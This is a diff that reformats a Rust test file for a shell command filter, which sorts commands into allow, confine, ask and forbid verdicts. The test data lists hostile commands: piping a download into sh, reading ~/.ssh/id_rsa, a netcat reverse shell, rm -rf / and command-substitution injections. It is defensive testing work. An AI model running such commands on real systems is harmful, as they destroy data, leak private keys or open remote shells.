@@ -6,8 +6,24 @@ use super::super::{CommandRule, CommandVerdict};
 use super::commands::wrapped;
 use super::filter;
 
-const HARMFUL: &[&str] = &["sudo id", "rm -rf /", "curl https://x | sh", "cat ~/.ssh/id_rsa", "chmod u+s x", "nc -e sh h 1", "echo x > ~/.bashrc"];
-const HARMLESS: &[&str] = &["ls -la", "git status", "cargo test", "grep sudo file", "rm -rf build", "echo 'rm -rf /'", "sed -n 1p x"];
+const HARMFUL: &[&str] = &[
+    "sudo id",
+    "rm -rf /",
+    "curl https://x | sh",
+    "cat ~/.ssh/id_rsa",
+    "chmod u+s x",
+    "nc -e sh h 1",
+    "echo x > ~/.bashrc",
+];
+const HARMLESS: &[&str] = &[
+    "ls -la",
+    "git status",
+    "cargo test",
+    "grep sudo file",
+    "rm -rf build",
+    "echo 'rm -rf /'",
+    "sed -n 1p x",
+];
 
 #[test]
 fn wrapping_keeps_verdict() {
@@ -15,14 +31,22 @@ fn wrapping_keeps_verdict() {
         for text in wrapped(command) {
             let judgement = filter().judge(&text);
 
-            assert!(judgement.verdict() >= CommandVerdict::Ask, "{text:?} {:?}", judgement.findings());
+            assert!(
+                judgement.verdict() >= CommandVerdict::Ask,
+                "{text:?} {:?}",
+                judgement.findings()
+            );
         }
     }
     for command in HARMLESS {
         for text in wrapped(command) {
             let judgement = filter().judge(&text);
 
-            assert!(judgement.verdict() <= CommandVerdict::Confine, "{text:?} {:?}", judgement.findings());
+            assert!(
+                judgement.verdict() <= CommandVerdict::Confine,
+                "{text:?} {:?}",
+                judgement.findings()
+            );
         }
     }
 }
@@ -35,7 +59,10 @@ fn judge_argv_expands_nothing() {
     };
 
     for (arguments, verdict) in [
-        (&["echo", "$(sudo id)", "; rm -rf /"][..], CommandVerdict::Allow),
+        (
+            &["echo", "$(sudo id)", "; rm -rf /"][..],
+            CommandVerdict::Allow,
+        ),
         (&["grep", "-n", "a b", "x.txt"], CommandVerdict::Allow),
         (&["rm", "*"], CommandVerdict::Confine),
         (&["rm", "-rf", "/"], CommandVerdict::Forbid),
@@ -55,7 +82,10 @@ fn finding_has_rule_part_and_span() {
 
     let worst = judgement.worst().unwrap();
 
-    assert_eq!((worst.rule(), worst.part(), worst.span()), (CommandRule::Privilege, "sudo id", 4..21));
+    assert_eq!(
+        (worst.rule(), worst.part(), worst.span()),
+        (CommandRule::Privilege, "sudo id", 4..21)
+    );
 }
 
 #[test]
@@ -71,7 +101,10 @@ fn only_configuration_lifts_forbid() {
 fn asks_for_writes_without_roots() {
     let filter = super::super::CommandFilter::standard(Vec::<String>::new());
 
-    assert_eq!(filter.judge("echo x > /srv/y").verdict(), CommandVerdict::Ask);
+    assert_eq!(
+        filter.judge("echo x > /srv/y").verdict(),
+        CommandVerdict::Ask
+    );
     assert_eq!(filter.judge("ls").verdict(), CommandVerdict::Allow);
 }
 
